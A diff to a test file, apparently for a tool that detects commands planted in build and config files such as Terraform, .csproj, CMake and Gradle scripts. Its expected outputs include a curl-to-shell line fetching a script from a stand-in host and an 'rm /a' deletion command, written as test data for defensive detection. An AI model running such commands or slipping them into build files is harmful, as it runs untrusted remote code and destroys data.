@@ -27,6 +27,8 @@ test('files that run something say what', () => {
     ['.pre-commit-config.yaml', `      - id: x\n        entry: ${run}\n`],
     ['Taskfile.yml', `tasks:\n  a:\n    cmds:\n      - ${run}\n`],
     ['Dockerfile', `FROM x\nRUN ${run}\n`],
+    ['main.tf', `resource "a" "b" {\n  provisioner "local-exec" {\n    command = "${run}"\n  }\n}\n`],
+    ['App.csproj', `<Target><Exec Command="${run}"/></Target>`],
     ['Makefile', `all:\n\t@${run}\n`],
     ['justfile', `all:\n    ${run}\n`],
     ['.husky/pre-commit', `${run}\n`],
@@ -122,4 +124,17 @@ test('a config that is code runs when it is loaded', () => {
     'rm /a',
   ])
   assert.deepEqual(read('build.rs', 'Command::new("rm").arg("/a").status()'), ['rm /a'])
+})
+
+test('build files run programs at their configuration', () => {
+  assert.deepEqual(planted('CMakeLists.txt', `execute_process(COMMAND sh -c "${run}" OUTPUT_VARIABLE x)`), [
+    `sh -c '${run}'`,
+  ])
+  assert.deepEqual(planted('build.gradle', `apply from: 'https://x.example/a.gradle'\n`), [
+    `curl -s 'https://x.example/a.gradle' | sh`,
+  ])
+  assert.deepEqual(planted('build.gradle.kts', `exec { commandLine("sh", "-c", "${run}") }`), [
+    `sh -c '${run}'`,
+  ])
+  assert.deepEqual(planted('build.gradle', `apply from: 'gradle/a.gradle'\n`), [])
 })
